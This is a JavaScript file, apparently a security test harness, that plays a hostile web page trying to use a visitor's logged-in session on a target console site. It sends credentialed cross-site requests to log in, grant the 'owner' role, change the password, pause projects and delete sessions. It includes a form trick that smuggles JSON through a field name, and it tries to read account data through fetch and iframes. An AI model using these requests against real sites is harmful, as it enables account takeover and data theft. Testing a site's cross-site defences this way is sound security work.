/**
 * The script of a page that wants to use the session of who looks at it. Says of each attempt what the page could see of it.
 */
async function attack(target) {
  const { site, organisation, project, token } = target;
  const seen = {};
  const changes = [
    ['POST', '/console/session', { name: 'eve', password: 'seven green bicycles' }],
    ['POST', '/console/session', { token }],
    ['POST', `/console/organisations/${organisation}/invitations`, { role: 'owner' }],
    ['POST', `/console/organisations/${organisation}/projects`, { name: 'by a foreign page' }],
    ['PATCH', `/console/projects/${project}`, { name: 'by a foreign page', paused: true }],
    ['PUT', '/console/me/password', { password: 'nine blue umbrellas' }],
    ['POST', '/console/me/invitations', { token }],
    ['POST', '/console/sign-in/openid', {}],
    ['DELETE', '/console/session', null],
    ['DELETE', '/console/sessions', null],
  ];

  async function attempt(name, work) {
    seen[name] = await work().catch((error) => `nothing: ${error.name}`);
  }

  for (const [method, path, body] of changes) {
    const text = JSON.stringify(body ?? {});
    for (const [mode, type] of [
      ['cors', 'application/json'],
      ['cors', 'text/plain'],
      ['no-cors', 'text/plain'],
      ['no-cors', 'application/x-www-form-urlencoded'],
    ]) {
      await attempt(
        `${mode} ${type} ${/** @type {string} */ (method)} ${/** @type {string} */ (path)}`,
        async () => {
          const answer = await fetch(site + path, {
            method,
            mode,
            credentials: 'include',
            headers: { 'content-type': type },
            ...(body && { body: text }),
          });
          return `${answer.type} ${answer.status} ${await answer.text()}`;
        },
      );
    }
    if (method !== 'POST') continue;
    navigator.sendBeacon(site + path, new Blob([text], { type: 'text/plain' }));
    navigator.sendBeacon(site + path, new Blob([text], { type: 'application/json' }));
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      await new Promise((resolve) => {
        const frame = document.createElement('iframe');
        frame.name = `f${Math.random()}`;
        const form = document.createElement('form');
        Object.assign(form, { method: 'POST', action: site + path, target: frame.name, enctype });
        // As text it reads as JSON: {"role":"owner","x":"="}
        const field = document.createElement('input');
        field.name = `${text.slice(0, -1)}${text === '{}' ? '' : ','}"x":"`;
        field.value = '"}';
        form.append(field);
        document.body.append(frame, form);
        frame.addEventListener('load', () => resolve());
        setTimeout(resolve, 2000);
        form.submit();
      });
    }
  }
  for (const path of ['/console/me', '/console/session', '/console/organisations', '/console/openapi.json']) {
    await attempt(`read ${path}`, async () => {
      const answer = await fetch(site + path, { credentials: 'include' });
      return answer.text();
    });
    await attempt(`frame ${path}`, async () => {
      const frame = document.createElement('iframe');
      frame.src = site + path;
      document.body.append(frame);
      await new Promise((resolve) => {
        frame.addEventListener('load', resolve);
        setTimeout(resolve, 2000);
      });
      return frame.contentDocument?.body.innerText ?? 'nothing: closed';
    });
  }
  return seen;
}

window.attack = attack;
